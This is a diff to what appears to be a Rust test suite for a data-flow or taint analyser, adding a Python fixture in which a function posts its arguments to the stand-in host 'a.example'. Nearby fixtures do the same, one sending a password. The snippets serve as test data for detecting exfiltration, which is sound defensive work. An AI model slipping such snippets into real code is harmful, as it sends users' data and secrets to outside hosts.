@@ -56,6 +56,7 @@ fn what_holds_an_argument_carries_it() {
             "keywords",
             "def send(**kw):\n    requests.post('https://a.example', json={k: str(v) for k, v in kw.items()})",
         ),
+        ("rest", "def send(*a):\n    requests.post('https://a.example', data=list(map(str, a)))"),
         (
             "namespace",
             "import types\ndef send(password):\n    n = types.SimpleNamespace(p=password)\n    requests.post('https://a.example', data=n.p)",
